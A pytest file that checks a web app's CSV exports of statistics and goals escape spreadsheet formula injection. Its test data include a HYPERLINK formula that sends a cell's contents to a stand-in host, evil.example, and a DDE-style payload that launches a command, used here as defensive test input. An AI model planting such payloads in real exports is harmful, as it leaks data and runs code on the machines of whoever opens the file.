"""CSV exports (statistics, goals): one writer, and no typed text a spreadsheet runs as a
formula (OWASP, "CSV Injection")."""

import csv
import io
from datetime import timedelta

import pytest

from tests.conftest import facilitate
from tests.factories import today
from webapp.auth.models import Role
from webapp.meetings.models import RegistrationStatus
from webapp.types import utcnow

#: texts a spreadsheet would run: a link that sends the sheet's cells away, arithmetic, a
#: function, and the same behind a tab or a carriage return
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1;"Klik her")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_of(response) -> list[list[str]]:
    """The CSV's rows, read as a spreadsheet reads it: UTF-8 after the byte order mark,
    semicolons between cells."""
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff") and not text.startswith("\ufeff\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))


def assert_no_formula(rows) -> None:
    starts = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert not starts, f"cells a spreadsheet would run: {starts}"


@pytest.mark.parametrize("title", HOSTILE)
def test_statistics_csv_shows_an_offer_title_as_text(app, client, login_as, factory, title):
    mette = login_as(role=Role.STAFF)
    offer = factory.offer(title=title)
    facilitate(app, mette, offer)
    held = factory.meeting(offer_id=offer.id, starts_at=utcnow() - timedelta(days=2))
    factory.registration(meeting_id=held.id, citizen_id=factory.user().id,
                         status=RegistrationStatus.ATTENDED)

    rows = cells_of(client.get("/personale/statistik/sammen-statistik.csv"
                               f"?fra={today() - timedelta(days=7)}&til={today()}"))

    assert ["'" + title] in [row[:1] for row in rows]
    assert_no_formula(rows)


@pytest.mark.parametrize("text", HOSTILE)
def test_goals_csv_shows_a_goal_and_a_note_as_text(client, login_as, factory, text):
    citizen = login_as()
    goal = factory.goal(citizen_id=citizen.id, title=text)
    factory.check_in(goal_id=goal.id, author_id=citizen.id, score=4, note=text)

    rows = cells_of(client.get("/maal/eksport.csv"))

    goal_row = rows[1]
    assert goal_row[0] == "'" + text and goal_row[10] == "'" + text
    assert goal_row[9] == "4"  # a number stays a number
    assert_no_formula(rows)


def test_plain_text_is_left_as_it_is(app, client, login_as, factory):
    citizen = login_as()
    goal = factory.goal(citizen_id=citizen.id, title="Gå en tur; hver dag = godt")
    factory.check_in(goal_id=goal.id, author_id=citizen.id, score=7, note='Sagde "hej"')

    row = cells_of(client.get("/maal/eksport.csv"))[1]

    assert row[0] == "Gå en tur; hver dag = godt"
    assert row[10] == 'Sagde "hej"'
